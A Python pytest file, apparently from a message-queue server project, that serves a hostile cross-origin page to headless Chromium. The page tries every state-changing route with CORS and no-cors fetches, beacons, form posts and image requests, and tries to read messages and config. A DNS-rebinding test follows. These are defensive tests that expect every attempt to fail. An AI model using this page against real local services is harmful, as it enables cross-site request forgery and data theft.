"""A real browser opens a page of another origin, which tries every call that changes state."""

import json
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from nsqc.httpd import router
from tests.support.daemon import logged
from tests.support.patience import WAIT_SECONDS

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium, of Debian's package chromium (apt-get install chromium)")

# Without preflight as far as a browser allows: text/plain, forms, images, beacons; other methods with preflight.
PAGE = """<!doctype html><title>evil</title><body><script>
const node = NODE, calls = CALLS, readable = READABLE;
async function attempt(url, options) {
  try { const answer = await fetch(url, options); return answer.type + " " + answer.status; } catch (error) { return "error"; }
}
function submit(url) {
  return new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f" + Math.random(); form.target = frame.name; form.method = "post"; form.action = url; form.enctype = "text/plain";
    document.body.append(frame, form); frame.onload = () => done("submitted"); form.submit(); setTimeout(done, 5000);
  });
}
(async () => {
  const results = [];
  for (const [method, path, body] of calls) {
    const url = node + path;
    results.push([method, path, await attempt(url, {method, body, mode: "cors", credentials: "include"})]);
    if (method == "POST") {
      await attempt(url, {method, body, mode: "no-cors", credentials: "include"});
      navigator.sendBeacon(url, body || "x");
      await submit(url);
    } else {
      await attempt(url, {method: "POST", body, mode: "no-cors", headers: {"X-HTTP-Method-Override": method}});
    }
    await new Promise(done => { const image = new Image(); image.onerror = image.onload = done; image.src = url; });
  }
  for (const path of readable) {
    let text = "error";
    try { text = await (await fetch(node + path)).text(); } catch (error) {}
    results.push(["READ", path, text]);
  }
  await fetch("/done", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class Site:
    """The web site with the page; it receives the page's findings."""

    def __init__(self, page: str) -> None:
        site = self
        self.results: list = []
        self.done = threading.Event()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self):
                site.results = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                site.done.set()

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def chromium(folder, *words):
    """Runs in its own process."""
    return subprocess.Popen([CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                             f"--user-data-dir={folder}", "--host-resolver-rules=MAP *.example 127.0.0.1", *words],
                            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)


def calls() -> list[tuple[str, str, str | None]]:
    """Every call that changes state, with its method, for the topic victim."""
    bodies = {"/pub": "evil", "/mpub": "evil", "/topic/rules": '{"storage":"log"}', "/config/": "debug"}
    found = []
    for table in (router.ROUTES, router.FREE_ROUTES):
        for method, paths in table.items():
            for path in paths:
                if method != b"GET":
                    name = path.decode()
                    target = "/config/log_level" if name == "/config/" else f"{name}?topic=victim&channel=c&to=end&rate=1"
                    found.append((method.decode(), target, bodies.get(name)))
                    if name.endswith(("create", "pub")):
                        found.append((method.decode(), f"{name}?topic=made&channel=made", bodies.get(name)))
    return found


def state(node):
    """All state that a page could have changed."""
    stats = json.loads(node.http("GET", "/stats?format=json&include_mem=false")[1])
    topics = {topic["topic_name"]: (topic["depth"], topic["message_count"], topic["paused"],
                                    [(channel["channel_name"], channel["depth"], channel["paused"]) for channel in topic["channels"]])
              for topic in stats["topics"]}
    return (topics, node.http("GET", "/config/log_level")[1], json.loads(node.http("GET", "/drain")[1])["state"],
            node.http("GET", "/topic/rules?topic=victim")[1])


def test_a_page_of_another_origin(start, tmp_path):
    node = start()
    for path in ("/topic/create?topic=victim", "/channel/create?topic=victim&channel=c"):
        node.post(path)
    node.post("/pub?topic=victim", b"secret")
    before = state(node)
    readable = ["/channel/peek?topic=victim&channel=c", "/topic/read?topic=victim", "/stats", "/config/log_level", "/debug/pprof/cmdline"]
    page = PAGE.replace("NODE", json.dumps(f"http://127.0.0.1:{node.http_port}")).replace("CALLS", json.dumps(calls())).replace(
        "READABLE", json.dumps(readable))
    site = Site(page)
    browser = chromium(tmp_path / "profile", "--remote-debugging-port=0", f"http://evil.example:{site.port}/")
    try:
        assert site.done.wait(2 * WAIT_SECONDS), node.log[-2000:]
    finally:
        browser.kill()
        browser.communicate()
        site.close()
    assert len(site.results) == len(calls()) + len(readable)
    # The page sees no answer, and nothing has changed.
    assert {result for _, _, result in site.results} == {"error"}
    assert state(node) == before
    logged(node, "it comes from a web page of another origin")
    assert node.stop() == 0


def test_a_name_that_resolves_to_the_node(start, tmp_path):
    """DNS rebinding: the browser takes the node for a server of the attacker's name."""
    node = start()
    node.post("/topic/create?topic=victim")
    node.post("/pub?topic=victim", b"secret")
    for host, shown in (("rebound.example", False), ("127.0.0.1", True)):
        url = f"http://{host}:{node.http_port}/topic/peek?topic=victim"
        browser = chromium(tmp_path / host, "--dump-dom", url)
        try:
            page = browser.communicate(timeout=2 * WAIT_SECONDS)[0].decode()
        finally:
            browser.kill()
            browser.communicate()
        assert ("secret" in page) is shown
        assert ("HOST_NOT_ALLOWED" in page) is not shown
